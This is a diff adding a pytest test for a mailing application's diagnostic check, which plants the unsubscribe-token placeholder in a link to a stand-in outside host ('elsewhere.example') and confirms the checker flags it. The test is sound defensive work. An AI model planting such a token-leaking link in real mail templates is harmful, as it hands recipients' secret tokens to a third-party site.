@@ -136,6 +136,23 @@ def test_the_doctor_makes_every_mail_with_them(one_database: Database, tmp_path:
     assert f"{tmp_path / 'own'}: your own templates can be read, and every mail was made with them" in said
 
 
+@pytest.mark.parametrize("file", ["known/body.txt", "known/body.html", "edition/body.txt"])
+def test_the_doctor_names_a_template_that_gives_a_token_to_another_site(
+    one_database: Database, tmp_path: Path, file: str
+) -> None:
+    settings = Settings(home=tmp_path, templates=tmp_path / "own")
+    KeyRing.create(settings.key_file)
+    own = tmp_path / "own" / "mail" / file
+    own.parent.mkdir(parents=True)
+    shipped = (find_template_folder() / "mail" / file).read_text("utf-8")
+    leak = "https://elsewhere.example/?x={{ leave }}"
+    own.write_text(shipped.replace("{{ leave }}", leak), "utf-8")
+    assert leak in own.read_text("utf-8")
+    found = [f.message for f in examine_installation(Installation(settings, one_database))]
+    (error,) = (message for message in found if "could lead elsewhere" in message)
+    assert error.startswith(f"In mail/{file}, a placeholder (leave-token)")
+
+
 def test_a_page_names_the_mistake_to_the_staff_alone_and_to_the_log(one_database: Database, tmp_path: Path) -> None:
     settings = Settings(home=tmp_path, templates=tmp_path / "own", base_url="http://localhost:8025")
     KeyRing.create(settings.key_file)
